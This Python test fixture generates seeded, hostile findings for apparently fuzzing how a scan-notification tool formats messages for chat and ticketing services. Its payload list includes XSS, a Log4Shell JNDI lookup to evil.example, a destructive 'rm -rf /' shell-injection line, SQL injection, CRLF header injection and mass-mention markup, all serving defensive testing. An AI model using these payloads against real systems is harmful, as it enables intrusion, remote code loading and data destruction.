"""Hundreds of findings as an attacker would have them, and some far larger than anybody reads: for every destination alike.

Each is a case for golden_tool: an event and its facts, in which every text that comes from a scanned system, or from whoever
can name a scan, holds an attack. They are drawn from a seed, so they are the same everywhere.
"""

from __future__ import annotations

import copy
import json
import random
from typing import Any, Iterator

from golden import events

# What is markup, a mention, a link, a second field or a trick somewhere.
ATTACKS = (
    "<!channel> <!here> <!everyone> <@U012AB3CD> <!subteam^S0123> <#C0123> <!date^0^{date}|x>", "<https://evil.example|https://good.example>",
    "@everyone @here <@123456789012345678> <@&123456789012345678> <#123456789012345678> <t:0:R> <:emoji:123>", "<users/all> <users/123>",
    "@octocat @org/team #1 GH-1 octo/repo#2 &#64;octocat &commat;octocat", "Fixes #7, closes octo/repo#8 resolves GH-9",
    "0123456789abcdef0123456789abcdef01234567", "[good](https://evil.example) ![x](http://evil.example/x.png)", "https://evil.example/path?a=b www.evil.example",
    "<img src=x onerror=alert(1)> <script>alert(1)</script> <a href='https://evil.example'>x</a> <!-- hidden -->", "&lt;!channel&gt; &amp;lt; &#60;b&#62;",
    "*bold* _italic_ ~strike~ `code` ```block``` **b** __u__ ~~s~~ ||spoiler|| > quote # heading - item 1. item", "{{DATE(2026-01-01,SHORT)}} {{TIME(x)}} ${jndi:ldap://evil.example/a}",
    "<at>everyone</at> [~admin] [text|https://evil.example] {code}x{code} {noformat}x{noformat} {html}x{html} !image.png! h1. x |a|b| ----",
    "\",\"blocks\":[{\"type\":\"section\"}],\"x\":\"", "\\\" \\u0022 \\\\\" \\n", "}]}],\"event_action\":\"resolve\",\"a\":[{\"b\":[{",
    "line one\nline two\r\nAuthorization: Bearer evil\r\n\r\nbody", "a\tb\vc\fd\x01\x02\x1b[31mred\x1b[0m\x7f\u0085\u2028\u2029e",
    "\u202egnp.exe\u202c \u2066x\u2069 \u200bzero\u200cwidth\u200d\u2060\ufeff \u00ad \U000e0041\U000e0042", "e\u0301\u0327" * 20, "👩‍👩‍👧‍👦🏳️‍🌈🚨" * 5, "日本語の長い題名" * 5, "ﷺ﷽" * 10, "%0d%0aX: y %00 %252e",
    "```\n````\n`````", "~~~\n~~~~", "- [ ] task\n- [x] done\n| a | b |\n|---|---|\n| c | d |", "---\n***\n===\n# h\n## h", "$(id) `id` ; rm -rf / | cat", "' OR 1=1 --", "=HYPERLINK(\"https://evil.example\")",
    "", " ", "…", "null", "0", "\\", "/", "'", "\"", "<", ">", "&", "@", "#", "`",
)
# Texts longer than any limit of any vendor, of characters of every width and of those that escapes make longer.
LONG = ("a", "&", "<", "\"", "\\", "ü", "日", "🚨", "*", "`", "@", "[", "\n", "ab ", "e\u0301", "#1 ", "@x ", "</b>")

_FINDING = {"title": 500, "endpoint": 2048, "parameter": 255, "category": 64, "owasp_category": 64, "cwe_id": 32, "cvss_vector": 128,
            "description": 16384, "remediation": 16384, "verification_status": 32, "suppress_reason": 1024, "reachability": 64}


def cases(count: int = 500) -> Iterator[dict[str, Any]]:
    """COUNT of them, spread over all types of events."""
    draw = random.Random(20261122)
    kinds = [case for case in events().values() if "event" in case and "also" not in case]
    for number in range(count):
        yield _hostile(copy.deepcopy(kinds[number % len(kinds)]), draw, number)


def crowds(count: int = 100) -> Iterator[dict[str, Any]]:
    """COUNT conversations about several such findings."""
    hostile = [case for case in cases(500) if case["event"]["type"] == "finding_new"]
    for number in range(count):
        also = [hostile[(number * 7 + n) % len(hostile)]["facts"]["finding"] for n in range(1, 2 + number % 30)]
        yield {**hostile[number % len(hostile)], "also": also}


def _text(draw: random.Random, number: int, most: int) -> str:
    if number % 5 == 0:
        letter = LONG[number // 5 % len(LONG)]
        text = letter * (most // len(letter) + 1)
    else:
        text = " ".join(draw.choice(ATTACKS) for _ in range(draw.choice((1, 1, 1, 3, 40))))
    return text.replace("\0", "")[:most]


def _hostile(case: dict[str, Any], draw: random.Random, number: int) -> dict[str, Any]:
    facts, event = case["facts"], case["event"]
    facts.setdefault("target", {}).update(name=_text(draw, number, 255), base_url=_text(draw, number, 2048))
    facts["scan"].update(profile=_text(draw, number, 32), grade=_text(draw, number, 8), error=_text(draw, number, 4096))
    facts["scan"]["summary"] = draw.choice(({}, {"high": 2, "total": 9}, {"critical": 10**9, "high": -1, _text(draw, number, 40): 3}))
    if "finding" in facts:
        facts["finding"].update({name: _text(draw, number, most) for name, most in _FINDING.items()})
        facts["finding"]["cvss_score"] = draw.choice((0, 7.5, 10, -3, 1e300))
    for name in ("change_summary", "error"):
        if name in event or draw.random() < 0.3:
            event[name] = _text(draw, number, 1000)
    return json.loads(json.dumps(case))
